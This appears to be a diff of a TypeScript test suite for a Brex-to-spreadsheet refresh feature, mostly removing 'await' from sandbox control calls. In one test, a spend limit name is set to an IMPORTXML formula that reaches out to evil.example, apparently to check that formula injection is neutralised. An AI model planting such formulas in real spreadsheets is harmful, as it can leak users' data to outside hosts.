@@ -120,17 +120,15 @@ describe('refresh in the local runtime against the sandbox', () => {
   it('touches only the 10 new transactions and the 3 changed expenses on the next refresh', async () => {
     const cardsBefore = rowsOf(runtime, 'Brex Card Transactions');
     const expensesBefore = rowsOf(runtime, 'Brex Expenses');
-    const added = (await control(sandbox, 'POST', '/card-transactions', {
+    const added = control(sandbox, 'POST', '/card-transactions', {
       count: 10,
       date: '2026-03-15',
-    })) as {
-      items: { id: string }[];
-    };
+    }) as { items: { id: string }[] };
     const changedIds = sandbox
       .snapshot()
       .expenses.slice(5, 8)
       .map((e) => e.id);
-    await control(sandbox, 'POST', '/expenses/touch', { ids: changedIds, memo: 'Changed in Brex' });
+    control(sandbox, 'POST', '/expenses/touch', { ids: changedIds, memo: 'Changed in Brex' });
     const writesBefore = runtime.stats.rangeWriteCells;
 
     const result = await runtime.run('refreshNow', []);
@@ -190,7 +188,7 @@ describe('refresh in the local runtime against the sandbox', () => {
     const annotated = new Map(
       sheet.rows.slice(1).map((cells) => [String(cells[width]?.value), cells[width - 1]?.note]),
     );
-    await control(sandbox, 'POST', '/card-transactions', { count: 3, date: '2026-03-15' });
+    control(sandbox, 'POST', '/card-transactions', { count: 3, date: '2026-03-15' });
 
     await refreshUntilDone(runtime);
 
@@ -214,7 +212,7 @@ describe('refresh in the local runtime against the sandbox', () => {
     const kwd = limits.find((s) => s.authorization_settings?.base_limit.currency === 'USD');
     expect([yen, kwd].every(Boolean)).toBe(true);
     const formula = '=IMPORTXML("http://evil.example","//a")';
-    await control(sandbox, 'PUT', `/spend_limits/${kwd?.id}`, {
+    control(sandbox, 'PUT', `/spend_limits/${kwd?.id}`, {
       name: formula,
       authorization_settings: { base_limit: { amount: 1234567, currency: 'KWD' } },
     });
